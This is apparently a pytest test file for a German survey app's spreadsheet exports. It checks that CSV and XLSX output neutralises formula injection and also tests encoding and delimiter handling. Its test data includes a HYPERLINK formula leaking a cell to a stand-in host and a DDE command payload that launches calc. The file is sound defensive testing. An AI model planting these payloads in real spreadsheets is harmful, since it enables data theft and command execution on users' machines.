"""No export can run a formula: a text that starts like one stays text in CSV and XLSX, in
every export – answers with codebook, codes, the action plan – and numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from qdialog.actions import services as actions
from qdialog.core.spreadsheets import (
    UnreadableFile,
    csv_cell,
    csv_read,
    csv_text,
    csv_uncell,
    decode_text,
    detect_delimiter,
    xlsx_append,
    xlsx_read,
)
from tests.surveys.conftest import fresh_token, post_data, respondent, survey  # noqa: F401
from tests.surveys.test_respond import post

ATTACKS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)",
           "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", ATTACKS)
def test_csv_cells_that_would_start_a_formula_are_neutralised(text):
    assert csv_cell(text) == "'" + text
    assert csv_cell(42) == 42 and csv_cell(-3) == -3 and csv_cell("Kurze Wege") == "Kurze Wege"


def test_xlsx_text_is_never_a_formula():
    from openpyxl import Workbook

    book = Workbook()
    xlsx_append(book.active, ["=1+1", 7, "@x", "Text"])
    data = io.BytesIO()
    book.save(data)
    sheet = load_workbook(io.BytesIO(data.getvalue())).active
    cells = list(sheet[1])
    assert [c.data_type for c in cells] == ["s", "n", "s", "s"]
    assert cells[0].value == "=1+1" and cells[0].quotePrefix and cells[1].value == 7


def _csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


def test_answer_exports_keep_formulas_out(client_for, world, survey, respondent):  # noqa: F811
    for text in ATTACKS[:4]:
        post(respondent, survey.codes[ATTACKS.index(text)].code,
             post_data(fresh_token(), q_short=text[:20], q_topics__other=text))
    client = client_for("mia")
    url = lambda fmt: reverse("surveys:answers_export", args=[survey.wave.pk, fmt])  # noqa: E731
    rows = _csv(client.get(url("csv")).content)
    cells = [cell for row in rows[1:] for cell in row]
    for text in ATTACKS[:4]:
        assert "'" + text in cells and text not in cells
    book = load_workbook(io.BytesIO(client.get(url("xlsx")).content))
    sheet = book["Antworten"]
    header = [c.value for c in sheet[1]]
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", cell.value  # no formula anywhere
        q1 = row[header.index("q1")]
        assert q1.data_type == "n" and isinstance(q1.value, int)  # a number stays a number
    texts = {c.value for row in sheet.iter_rows(min_row=2) for c in row}
    assert set(ATTACKS[:4]) <= texts  # kept as typed, as text
    for row in book["Codebuch"].iter_rows():
        assert all(c.data_type != "f" for c in row)


def test_code_list_and_action_plan_keep_formulas_out(client_for, world, survey):  # noqa: F811
    world.m1.name = "=cmd|' /C calc'!A0"
    world.m1.save()
    client = client_for("mia")
    rows = _csv(client.get(reverse("surveys:codes_download", args=[survey.wave.pk, "csv"]))
                .content)
    assert rows[1][1] == "'" + world.m1.name
    actions.action_create(actor=world.people["mia"], municipality=world.m1,
                          fields={"title": "@SUM(1+1)*cmd", "description": "-1+1"})
    rows = _csv(client.get(reverse("actions:export", args=[world.m1.pk])).content)
    assert rows[1][:2] == ["title", "description"]  # the second header row: column codes
    assert rows[2][0] == "'@SUM(1+1)*cmd" and rows[2][1] == "'-1+1"


def test_csv_text_round_trips_for_excel():
    text = csv_text([["a", "=b"], [1, "c"]])
    assert text.startswith("\ufeff") and "'=b" in text


@pytest.mark.parametrize("text", ATTACKS)
def test_csv_uncell_undoes_the_apostrophe(text):
    assert csv_uncell(csv_cell(text)) == text
    assert csv_uncell("'Zitat") == "'Zitat" and csv_uncell("Text") == "Text"


@pytest.mark.parametrize("raw, text", [
    ("Größe;Maß".encode(), "Größe;Maß"),
    ("\ufeffGröße;Maß".encode("utf-8"), "Größe;Maß"),
    ("Größe;Maß „x“".encode("cp1252"), "Größe;Maß „x“"),
    ("Größe\tMaß".encode("utf-16"), "Größe\tMaß"),
])
def test_decode_text(raw, text):
    assert decode_text(raw) == text


@pytest.mark.parametrize("raw", [b"\x81\x8d", b"a\x00b"])
def test_decode_text_refuses_what_is_no_text(raw):
    with pytest.raises(UnreadableFile):
        decode_text(raw)


@pytest.mark.parametrize("header, delimiter", [
    ("a;b;c\n", ";"), ("a,b,c\n", ","), ("a\tb\tc\n", "\t"), ("a\n", ";"),
    ("\ta;b\tc;d\n", ";"),  # tabs inside cells of a semicolon file
    ('"a;b",c,d\n', ","),  # a quoted semicolon does not count
    ('"a\tb";"c,d";e\nx\ty\tz\tw\n', ";"),  # only the header line counts
    ("a;b,c;d,e\n", ";"),  # equal counts: the semicolon wins
])
def test_detect_delimiter(header, delimiter):
    assert detect_delimiter(header) == delimiter


def test_csv_read_honours_excels_sep_line():
    assert csv_read("sep=,\na;b,c\n") == [["a;b", "c"]]
    assert csv_read('a;"b\nc";d\r\n') == [["a", "b\nc", "d"]]


def test_xlsx_read_gives_values_not_formulas():
    from openpyxl import Workbook

    book = Workbook()
    book.active.append(["=1+1", 3, "x"])
    book.create_sheet("Zwei").append(["y"])
    data = io.BytesIO()
    book.save(data)
    sheets = xlsx_read(data.getvalue(), max_rows=10)
    assert [title for title, _rows in sheets] == ["Sheet", "Zwei"]
    assert sheets[0][1] == [[None, 3, "x"]]  # no cached value: a formula is not run
    with pytest.raises(UnreadableFile):
        xlsx_read(b"PK\x03\x04nonsense", max_rows=10)
